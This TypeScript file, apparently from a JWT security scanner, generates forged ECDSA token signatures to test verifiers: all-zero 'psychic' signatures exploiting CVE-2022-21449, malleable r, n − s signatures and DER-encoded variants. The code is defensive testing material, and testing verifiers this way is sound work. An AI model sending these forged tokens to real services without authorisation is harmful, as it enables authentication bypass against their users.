import { cve, rfc } from '../../lint/source.js';
import { compact, each, encode, headerWith, one } from '../compose.js';
import { derOfNumbers } from '../der.js';
import type { JwsMutation } from '../mutation.js';
import type { OriginalJws } from '../original.js';

interface Curve {
  /** Bytes of each of the two numbers in a signature. @see RFC 7518 section 3.4 */
  readonly size: number;
  /** Order of the base point. @see FIPS 186-5, SP 800-186 section 3.2.1 */
  readonly order: bigint;
}

const CURVES: Readonly<Record<string, Curve>> = {
  ES256: { size: 32, order: 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n },
  ES384: {
    size: 48,
    order:
      0xffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973n,
  },
  ES512: {
    size: 66,
    order:
      0x1fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffa51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409n,
  },
};

const psychic: JwsMutation = {
  id: 'ecdsa.psychic',
  title: 'an ECDSA signature of zeros',
  of: 'jws',
  class: 'safe',
  needs: [],
  sources: [cve('CVE-2022-21449'), rfc(8725, '3.3')],
  tests: 'the server does not refuse r = 0 and s = 0, which fit every text and every key',
  make(original) {
    const signedAs = (alg: string, bytes: Uint8Array) =>
      compact(headerWith(original, { alg }), original.payloadPart, encode(bytes));
    const zeros = Object.entries(CURVES).map(([alg, { size }]): [string, string] => [
      alg,
      signedAs(alg, new Uint8Array(size * 2)),
    ]);
    // A verifier knows its curve from its key, so for the DER form the token's own name is kept where it has one.
    const own = Object.hasOwn(CURVES, original.algorithm) ? original.algorithm : 'ES256';
    return each({ ...Object.fromEntries(zeros), der: signedAs(own, derOfNumbers([0n, 0n])) });
  },
};

const negated: JwsMutation = {
  id: 'ecdsa.s-negated',
  title: 'the other ECDSA signature: r and n - s',
  of: 'jws',
  class: 'safe',
  needs: [],
  sources: [rfc(7518, '3.4')],
  tests: 'the server tells tokens apart by their bytes: a used or revoked one comes back spelled otherwise',
  make(original) {
    const pair = numbersOf(original);
    if (pair === undefined) return [{ variant: '', missing: 'ecdsa-signature' }];
    const { r, s, curve } = pair;
    const bytes = Buffer.concat([bytesOf(r, curve.size), bytesOf(curve.order - s, curve.size)]);
    return one(`${original.headerPart}.${original.payloadPart}.${encode(bytes)}`, 'either');
  },
};

const der: JwsMutation = {
  id: 'ecdsa.der',
  title: 'the ECDSA signature in DER',
  of: 'jws',
  class: 'safe',
  needs: [],
  sources: [rfc(7518, '3.4')],
  tests: 'the server reads a second form of signatures that no token may have',
  make(original) {
    const pair = numbersOf(original);
    if (pair === undefined) return [{ variant: '', missing: 'ecdsa-signature' }];
    return one(`${original.headerPart}.${original.payloadPart}.${encode(derOfNumbers([pair.r, pair.s]))}`);
  },
};

function numbersOf({
  algorithm,
  signaturePart,
}: OriginalJws): { readonly r: bigint; readonly s: bigint; readonly curve: Curve } | undefined {
  const curve = Object.hasOwn(CURVES, algorithm) ? CURVES[algorithm] : undefined;
  const bytes = Buffer.from(signaturePart, 'base64url');
  if (curve === undefined || bytes.length !== curve.size * 2) return undefined;
  const s = numberIn(bytes.subarray(curve.size));
  return s < curve.order ? { r: numberIn(bytes.subarray(0, curve.size)), s, curve } : undefined;
}

const numberIn = (bytes: Buffer): bigint => BigInt(`0x${bytes.toString('hex')}`);

const bytesOf = (number: bigint, size: number): Buffer =>
  Buffer.from(number.toString(16).padStart(size * 2, '0'), 'hex');

/** Signatures that only a lax ECDSA accepts. */
export const ecdsa: readonly JwsMutation[] = [psychic, negated, der];
